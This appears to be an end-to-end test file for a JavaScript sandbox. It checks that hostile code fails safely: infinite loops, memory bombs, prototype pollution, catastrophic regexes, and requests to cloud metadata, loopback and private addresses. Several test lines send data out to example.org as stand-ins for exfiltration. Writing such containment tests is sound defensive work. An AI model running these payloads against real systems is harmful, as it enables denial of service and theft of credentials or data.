/**
 * Hostile programs in real isolates: each must end as a failed (or harmless) envelope with an
 * error a user can act on, and the server must still answer afterwards. Nothing here sends
 * traffic off this machine: public hosts are refused by a chain's egress_allow before any I/O,
 * and the redirect tests use loopback mocks through a server of this file's own whose
 * EGRESS_ALLOW names only the redirector's port.
 */
import { lookup } from "node:dns/promises";
import { readFileSync } from "node:fs";
import { hostname } from "node:os";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { startRedirectServer, type RedirectServer } from "../mocks/redirect-server";
import { startToolService, type ToolService } from "../mocks/tool-service";
import { api, eventually, llm, runSteps, unique } from "./client";
import { startDevServer, type DevServer } from "./dev-server";
import { expectServerAnswers, jsChain, runJs } from "./sandbox-client";

const TICKS = /\(limits\.max_ticks\)/;
const ALLOCATION = /^Execution stopped: more than 268435456 bytes allocated in big strings, arrays and buffers \(limits\.max_alloc_bytes\)/;
const WALL = /^Execution stopped: the wall time limit of 1000 ms was exceeded \(limits\.wall_ms\)$/;

describe("runaway programs", () => {
  it.each([
    ["an infinite loop", "while (true) {}", TICKS],
    ["an infinite loop inside a callback", "[1].forEach(function spin() { for (;;) {} });", TICKS],
    ["an infinite async loop", "for (;;) await null;", TICKS],
    ["a recursion bomb", "function f() { return f() + 1; }\nf()", /^RangeError: Maximum call stack size exceeded$/],
    ["a recursion bomb that catches its own overflow", "function f() { try { f(); } catch { f(); } }\nf()", TICKS],
    ["a memory bomb of big strings", 'const a = [];\nwhile (true) a.push("x".repeat(1e6));', ALLOCATION],
    ["a memory bomb of filled arrays", "const a = [];\nwhile (true) a.push(new Array(1e6).fill(0));", ALLOCATION],
    ["a memory bomb that doubles an array", "let a = [1];\nwhile (true) a = [...a, ...a];", ALLOCATION],
    ["a memory bomb of buffers", "const a = [];\nwhile (true) a.push(new Uint8Array(1e7));", ALLOCATION],
    ["a string doubled 28 times, then copied", "let s = 'x';\nfor (let i = 0; i < 28; i++) s += s;\nconst k = [];\nfor (let i = 0; i < 16; i++) k[k.length] = (s + i).toUpperCase();", ALLOCATION],
    ["a string doubled 28 times, then flattened by reading", "let s = 'x';\nfor (let i = 0; i < 28; i++) s += s;\nconst k = [];\nfor (let i = 0; i < 16; i++) { const t = s + i; k[k.length] = t; t.charCodeAt(1); }", ALLOCATION],
    ["arrays lengthened and then filled", "const k = [];\nwhile (true) { const a = [1];\na.length = 3e7;\nk[k.length] = a.fill(7); }", ALLOCATION],
  ])("%s ends with a clear error", async (_name, code, error) => {
    const { run, envelope } = await runJs(code);
    expect(run.status).toBe("succeeded");
    expect(envelope).toMatchObject({ ok: false, result: null });
    expect(envelope.error).toMatch(error);
    await expectServerAnswers();
  });

  it.each([
    ["a promise that never settles", "await new Promise(() => {});"],
    ["a timer that keeps rescheduling itself", "setInterval(() => {}, 1);\nawait new Promise(() => {});"],
    ["a sleep far past the limit", "await new Promise((resolve) => setTimeout(resolve, 3_600_000));"],
  ])("%s ends at the wall time limit", async (_name, code) => {
    const { envelope } = await runJs(code, { limits: { wall_ms: 1000 } });
    expect(envelope).toMatchObject({ ok: false, error: expect.stringMatching(WALL) });
    await expectServerAnswers();
  });
});

describe("network access", () => {
  it("cannot reach a public host the chain's egress_allow leaves out, by either fetch, before any I/O", async () => {
    const code = `
      const viaGlobal = await httpFetch("https://example.org/secrets");
      const viaFetch = await fetch("https://example.org/secrets", { method: "POST", body: "data" });
      return { viaGlobal, status: viaFetch.status, refused: viaFetch.headers.get("x-switchyard-egress"), body: await viaFetch.json() };`;
    const { envelope } = await runJs(code, { egress_allow: ["api.example.com"] });
    const refusal = "egress refused: example.org is not in this chain's egress allow-list (execute_config.egress_allow)";
    expect(envelope.result).toMatchObject({ viaGlobal: { ok: false, status: 0, error: refusal }, status: 403, refused: "refused", body: { error: refusal } });
    expect(envelope.calls).toMatchObject([
      { name: "httpFetch", ok: false, error: refusal },
      { name: "fetch", ok: false, error: "egress refused (HTTP 403)" },
    ]);
    await expectServerAnswers();
  });

  it.each([
    ["the server itself on 127.0.0.1", () => `${api().baseUrl}/health`, "127.0.0.1 is a loopback address"],
    ["localhost", () => "http://localhost:8787/", "localhost is a loopback name"],
    ["IPv6 loopback", () => "http://[::1]:8787/", "[::1] is a loopback address"],
    ["loopback spelled as a number", () => "http://2130706433/", "127.0.0.1 is a loopback address"],
    ["the cloud metadata address", () => "http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local address"],
    ["the cloud metadata name", () => "http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal is a cloud metadata name"],
    ["a private network", () => "http://10.0.0.1/", "10.0.0.1 is a private address"],
  ])("cannot reach %s", async (_name, url, reason) => {
    const target = url();
    const { envelope } = await runJs(`
      const viaGlobal = await httpFetch(${JSON.stringify(target)});
      const viaFetch = await fetch(${JSON.stringify(target)});
      return { viaGlobal: viaGlobal.error, status: viaFetch.status, body: await viaFetch.text() };`);
    expect(envelope.ok).toBe(true);
    const result = envelope.result as { viaGlobal: string; status: number; body: string };
    expect(result.viaGlobal).toContain(`egress refused: ${reason}`);
    expect(result.status).toBe(403);
    expect(result.body).toContain(reason);
    await expectServerAnswers();
  });

  describe("through redirects", () => {
    let redirector: RedirectServer;
    let forbidden: ToolService;
    let server: DevServer;

    beforeAll(async () => {
      redirector = await startRedirectServer();
      forbidden = await startToolService({ records: 3 });
      server = await startDevServer({
        vars: { API_KEYS: inject("apiKey"), LLM_BASE_URL: inject("llmUrl"), LLM_API_KEY: "k", LLM_MODEL: "mock-model", EGRESS_ALLOW: `127.0.0.1:${redirector.port}` },
      });
    });

    afterAll(async () => {
      await server?.stop();
      await forbidden?.close();
      await redirector?.close();
    });

    const bounce = (target: string, status = 302) => `${redirector.url}/to?url=${encodeURIComponent(target)}&status=${status}`;

    it.each([
      ["a loopback port EGRESS_ALLOW does not name", () => `${forbidden.url}/records/1`, "127.0.0.1 is a loopback address"],
      ["the cloud metadata address", () => "http://169.254.169.254/latest/meta-data/iam/", "169.254.169.254 is a link-local address"],
    ])("re-checks every hop: a redirect to %s is refused", async (_name, target, reason) => {
      const from = bounce(target(), 307);
      const { envelope } = await runJs(
        `const viaGlobal = await httpFetch(${JSON.stringify(from)});\nconst viaFetch = await fetch(${JSON.stringify(from)});\nreturn { viaGlobal, status: viaFetch.status, body: await viaFetch.json() };`,
        {},
        api(server.url),
      );
      const refusal = `egress refused (redirect 1 from ${from}): ${reason}`;
      expect(envelope.result).toMatchObject({ viaGlobal: { ok: false, url: target(), error: expect.stringContaining(refusal) }, status: 403, body: { error: expect.stringContaining(refusal) } });
      expect(forbidden.calls).toEqual([]);
      await expectServerAnswers(api(server.url));
    });

    it("refuses a redirect to a public host the chain's egress_allow leaves out", async () => {
      const from = bounce("https://example.org/exfiltrate");
      const { envelope } = await runJs(`return httpFetch(${JSON.stringify(from)})`, { egress_allow: [`127.0.0.1:${redirector.port}`] }, api(server.url));
      expect(envelope.result).toMatchObject({
        ok: false,
        error: `egress refused (redirect 1 from ${from}): example.org is not in this chain's egress allow-list (execute_config.egress_allow)`,
      });
    });
  });
});

describe("isolation between runs", () => {
  it("a run sees nothing of another run's globals, logs, results or vars, even while both are live", async () => {
    const secret = `secret-${Math.random().toString(36).slice(2)}`;
    const first = api().post("/runs?wait=true", {
      chain: jsChain(),
      input: {
        code: `globalThis.stash = "${secret}";\nconsole.log("${secret}");\nawait new Promise((r) => setTimeout(r, 1500));\nreturn { kept: globalThis.stash };`,
      },
      vars: { token: secret },
    });
    // Started while the first run is still holding its secret.
    await new Promise((r) => setTimeout(r, 300));
    const second = await runJs(`
      const seen = [];
      for (const name of Object.getOwnPropertyNames(globalThis)) {
        try { seen.push(name + "=" + String(globalThis[name]).slice(0, 200)); } catch {}
      }
      let cached = null;
      try { cached = await caches.default.match("https://switchyard.invalid/stash"); } catch (e) { cached = String(e); }
      const viaApi = await httpFetch("${api().baseUrl}/runs?limit=5");
      return { stash: globalThis.stash ?? null, seen, cached, viaApi: viaApi.error };`);
    const firstRun = (await first).body;

    expect(firstRun.output).toMatchObject({ ok: true, result: { kept: secret }, logs: [secret] });
    expect(second.envelope.ok).toBe(true);
    expect(JSON.stringify(second.envelope)).not.toContain(secret);
    expect(second.envelope.result).toMatchObject({ stash: null, viaApi: expect.stringContaining("egress refused") });
    expect(second.run.id).not.toBe(firstRun.id);
  });

  it("prototype pollution stays in its own isolate: the runtime's records, the host and later runs are unaffected", async () => {
    const chain = {
      id: "sandbox-pollution",
      tasks: [
        { id: "js", handler: "run_js", transition: { branches: [{ operator: "default", when: "", goto: "after" }] } },
        { id: "after", handler: "print", print: "{{.js.result.ok}} {{.js.logs}}" },
      ],
    };
    const code = `
      Object.prototype.polluted = "yes";
      Array.prototype.push = function () { return -1; };
      Array.prototype.map = function () { return []; };
      JSON.stringify = () => "{}";
      JSON.parse = () => ({ hijacked: true });
      Function.prototype.call = function () { return "hijacked"; };
      console.log("still logged");
      await sendEvent("sandbox.polluted", { n: 1 });
      return { ok: 1 };`;
    const res = await api().post("/runs?wait=true", { chain, input: { code } });
    expect(res.body.status).toBe("succeeded");
    const steps = await runSteps(api(), res.body.id);
    expect(steps[0].output).toMatchObject({ ok: true, result: { ok: 1 }, logs: ["still logged"], calls: [{ name: "sendEvent", args: ["sandbox.polluted", { n: 1 }], ok: true }] });
    expect(steps[1].eval).toBe('1 ["still logged"]');

    // A toJSON on every object spoils the run's own serialisation, and nothing beyond it.
    const hijacked = await runJs('Object.defineProperty(Object.prototype, "toJSON", { value: () => "hijacked" });\nawait sendEvent("sandbox.hijacked", {});\nreturn { ok: 1 };');
    expect(hijacked.run.status).toBe("succeeded");
    expect(Object.keys(hijacked.envelope).sort()).toEqual(["calls", "code", "duration_ms", "error", "logs", "ok", "result"]);
    expect(hijacked.envelope.ok).toBe(false);

    const { envelope } = await runJs('({ inherited: ({}).polluted ?? null, push: [].push(1), json: JSON.stringify({ a: 1 }), toJSON: typeof ({}).toJSON })');
    expect(envelope.result).toEqual({ inherited: null, push: 1, json: '{"a":1}', toJSON: "undefined" });
    await expectServerAnswers();
  });

  it("a __proto__ key in a result is stored and served as an ordinary field", async () => {
    const { run, envelope } = await runJs(`JSON.parse('{"__proto__": {"polluted": "via result"}, "plain": 1}')`);
    expect(envelope.ok).toBe(true);
    const raw = await (await fetch(`${api().baseUrl}/runs/${run.id}`, { headers: { authorization: `Bearer ${api().apiKey}` } })).text();
    expect(raw).toContain('"result":{"__proto__":{"polluted":"via result"},"plain":1}');
    const after = await runJs("({}).polluted ?? null");
    expect(after.envelope.result).toBeNull();
  });
});

describe("hostile values", () => {
  it.each([
    ["a string", 'throw "boom"', "boom"],
    ["a number", "throw 42", "42"],
    ["a plain object", "throw { code: 42, reason: 'nope' }", '{"code":42,"reason":"nope"}'],
    ["null", "throw null", "null"],
    ["undefined", "throw undefined", "undefined"],
    ["a symbol", 'throw Symbol("odd")', "Symbol(odd)"],
    ["a rejected promise", "await Promise.reject(7)", "7"],
    ["an object without a prototype", "throw Object.create(null)", "{}"],
    ["an error whose message getter throws", 'throw { get message() { throw new Error("gotcha"); } }', "gotcha"],
  ])("throwing %s ends with that value as the error", async (_name, code, error) => {
    const { envelope } = await runJs(code);
    expect(envelope).toMatchObject({ ok: false, result: null, error });
    await expectServerAnswers();
  });

  it("huge logs are cut off at the limit, and the run is recorded", async () => {
    const { run, envelope } = await runJs('for (let i = 0; i < 100000; i++) console.log("line " + i + " " + "-".repeat(100));\nreturn "done";');
    expect(run.status).toBe("succeeded");
    expect(envelope).toMatchObject({ ok: true, result: "done" });
    expect(envelope.logs.at(-1)).toBe("[… logs truncated: more than 65536 bytes (limits.max_log_bytes)]");
    expect(envelope.logs.length).toBeLessThan(1000);
    await expectServerAnswers();
  });

  it("a result over the limit is refused, and one within it is kept whole on the run but shortened in the step log", async () => {
    const over = await runJs('"x".repeat(2 * 1024 * 1024)');
    expect(over.envelope).toMatchObject({ ok: false, result: null, error: "the result is 2097154 bytes, over limits.max_result_bytes (1048576)" });

    const res = await api().post("/runs?wait=true", { chain: jsChain(), input: { code: '"y".repeat(600 * 1024)' } });
    expect(res.body.output.result).toHaveLength(600 * 1024);
    const step = (await runSteps(api(), res.body.id))[0];
    expect(step.output).toMatchObject({ truncated: true, original_bytes: expect.any(Number), preview: expect.stringMatching(/^\{"ok":true,"result":"yyy/) });
    expect(step.output.original_bytes).toBeGreaterThan(600 * 1024);
    await expectServerAnswers();
  });

  it("a huge error message is shortened", async () => {
    const { envelope } = await runJs('throw new Error("z".repeat(5_000_000))');
    expect(envelope.error).toBe(`Error: ${"z".repeat(4089)}… (5000007 characters)`);
    await expectServerAnswers();
  });
});

/**
 * A name other than `localhost` that this machine resolves to a loopback address: its own
 * hostname, or an /etc/hosts alias. The gate cannot tell these from public names by their text.
 */
async function loopbackName(): Promise<string> {
  const aliases = readFileSync("/etc/hosts", "utf8")
    .split("\n")
    .flatMap((line) => {
      const [address, ...names] = line.replace(/#.*/, "").trim().split(/\s+/);
      return address?.startsWith("127.") ? names : [];
    });
  for (const name of [hostname(), ...aliases]) {
    if (!name || name === "localhost" || name.endsWith(".localhost")) continue;
    const address = await lookup(name, { family: 4 }).then((r) => r.address, () => "");
    if (address.startsWith("127.")) return name;
  }
  throw new Error("no name but localhost resolves to a loopback address on this machine; the test needs one (e.g. its hostname in /etc/hosts)");
}

describe("loopback by name", () => {
  it("a host name that resolves to this machine reaches none of its services: the provider key never comes back", async () => {
    const name = await loopbackName();
    const scenario = unique("by-name");
    const log = `http://${name}:${new URL(inject("llmUrl")).port}/__mock/requests?scenario=${scenario}`;
    const { envelope } = await runJs(`
      await executeTask("hi", ${JSON.stringify(scenario)});
      const viaGlobal = await httpFetch(${JSON.stringify(log)});
      const viaFetch = await fetch(${JSON.stringify(log)});
      const scripted = await fetch(${JSON.stringify(log.replace(/requests.*/, "scenarios/x"))}, { method: "POST", body: "[]" });
      return { viaGlobal, status: viaFetch.status, body: await viaFetch.text(), scripted: scripted.status };`);
    expect(await llm().requests(scenario)).toHaveLength(1);
    expect(JSON.stringify(envelope)).not.toContain("mock-provider-key");
    const result = envelope.result as { viaGlobal: { ok: boolean; error: string }; status: number; scripted: number };
    expect(result.viaGlobal).toMatchObject({ ok: false, error: expect.stringContaining(`egress refused: ${name} is a host name this runtime may resolve to a private or loopback address`) });
    expect([result.status, result.scripted]).toEqual([403, 403]);
    await expectServerAnswers();
  });

  describe("on a server whose operator allowed the mock LLM and a tool service", () => {
    const providerKey = `provider-key-${Math.random().toString(36).slice(2)}`;
    const toolSecret = `tool-secret-${Math.random().toString(36).slice(2)}`;
    let tool: ToolService;
    let server: DevServer;

    beforeAll(async () => {
      tool = await startToolService({ records: 3, requireHeader: { name: "X-Api-Key", value: toolSecret } });
      const llmPort = new URL(inject("llmUrl")).port;
      server = await startDevServer({
        vars: { API_KEYS: inject("apiKey"), LLM_BASE_URL: inject("llmUrl"), LLM_API_KEY: providerKey, LLM_MODEL: "mock-model", SECRETS_KEY: "e2e-secrets-key", EGRESS_ALLOW: `127.0.0.1:${llmPort},127.0.0.1:${tool.port}` },
      });
      const registered = await api(server.url).post("/tools", { name: "echoing", type: "openapi", url: tool.url, headers: { "X-Api-Key": toolSecret } });
      expect(registered.status).toBe(201);
    });

    afterAll(async () => {
      await server?.stop();
      await tool?.close();
    });

    it("what the code sees of an allowed service's debug pages is scrubbed of every secret the runtime holds", async () => {
      const scenario = unique("scrubbed");
      const llmLog = `${inject("llmUrl").replace(/\/v1$/, "")}/__mock/requests?scenario=${scenario}`;
      const { envelope } = await runJs(
        `await executeTask("hi", ${JSON.stringify(scenario)});
        await tools.echoing.listRecords({ limit: 1 });
        const llmLog = await httpFetch(${JSON.stringify(llmLog)});
        const toolLog = await fetch(${JSON.stringify(`${tool.url}/debug/requests`)});
        console.log(llmLog.body);
        return { llm: llmLog.body, tool: await toolLog.text() };`,
        { tools: ["echoing__listRecords"] },
        api(server.url),
      );
      expect(envelope.ok).toBe(true);
      // The secrets did go out, to the services they belong to.
      expect((await llm().requests(scenario))[0]!.headers.authorization).toBe(`Bearer ${providerKey}`);
      expect(tool.calls.some((c) => c.headers["x-api-key"] === toolSecret)).toBe(true);
      const seen = JSON.stringify(envelope);
      expect(seen).not.toContain(providerKey);
      expect(seen).not.toContain(toolSecret);
      const result = envelope.result as { llm: string; tool: string };
      expect(result.llm).toContain("Bearer [redacted]");
      expect(result.tool).toContain("[redacted]");
    });
  });
});

describe("records that stay small", () => {
  it("a hundred failing calls that each quote a 120 KB URL leave a small envelope, a recorded step and a D1 row", async () => {
    const { run, envelope } = await runJs('for (let i = 0; i < 100; i++) await httpFetch("y".repeat(120000) + i);\nreturn "done";');
    expect(run.status).toBe("succeeded");
    expect(envelope.calls).toHaveLength(100);
    expect(JSON.stringify(envelope.calls).length).toBeLessThan(300_000);
    const first = envelope.calls[0] as { error: string };
    expect(first.error).toMatch(/^egress refused: "y{200}… \(120001 characters\)" is not an absolute URL$/);
    const raw = await (await fetch(`${api().baseUrl}/runs/${run.id}`, { headers: { authorization: `Bearer ${api().apiKey}` } })).text();
    expect(raw.length).toBeLessThan(400_000);
    const listed = await eventually(() => api().get(`/runs?chain_id=sandbox-e2e&limit=100`), (res) => res.body.data.some((r: { id: string; status: string }) => r.id === run.id && r.status === "succeeded"), "the run's D1 row");
    expect(listed.body.data.find((r: { id: string }) => r.id === run.id).step_count).toBe(1);
    await expectServerAnswers();
  });
});

describe("prototype keys", () => {
  it("executeTaskChain('constructor') is an unknown chain, not a crash", async () => {
    const { envelope } = await runJs('return Promise.all(["constructor", "__proto__", "toString"].map((id) => executeTaskChain(id, {})));');
    expect(envelope.result).toEqual(["constructor", "__proto__", "toString"].map((id) => expect.objectContaining({ success: false, error: `No chain "${id}" is registered or bundled.` })));
  });

  it("a tool call whose arguments have a __proto__ or constructor key is refused before it reaches the tool", async () => {
    const { envelope } = await runJs(
      `const viaProto = await callTool("workspace__list", JSON.parse('{"__proto__": {"prefix": "x"}}'));
      const viaConstructor = await callTool("workspace__list", { constructor: 1 });
      return { viaProto, viaConstructor };`,
      { tools: ["workspace__list"] },
    );
    expect(envelope.result).toEqual({
      viaProto: { error: 'callTool: an object has the key "__proto__", which is not allowed (argument 1.__proto__)' },
      viaConstructor: expect.objectContaining({ error: expect.stringContaining("constructor: is not a known argument") }),
    });
  });
});

describe("catastrophic regular expressions", () => {
  it("/(a+)+$/ in sandboxed code, by literal, constructor or string method, ends at once and stalls nothing", async () => {
    const { envelope } = await runJs(`
      const input = "a".repeat(40) + "!";
      return [/(a+)+$/.test(input), new RegExp("(a+)+$").test(input), input.search("(a+)+$"), input.replace(/(a|a)+$/, "x") === input];`, { limits: { wall_ms: 3000 } });
    expect(envelope).toMatchObject({ ok: true, result: [false, false, -1, true] });
    await expectServerAnswers();
  });

  it("workspace__grep with a model's catastrophic pattern answers at once", async () => {
    const { envelope } = await runJs(
      `await tools.workspace.write({ path: "a.txt", content: ("a".repeat(40) + "!\\n").repeat(50) });
      return tools.workspace.grep({ pattern: "(a+)+$", regex: true });`,
      { tools: ["workspace__write", "workspace__grep"] },
    );
    expect(envelope).toMatchObject({ ok: true, result: { matches: [] } });
    await expectServerAnswers();
  });
});
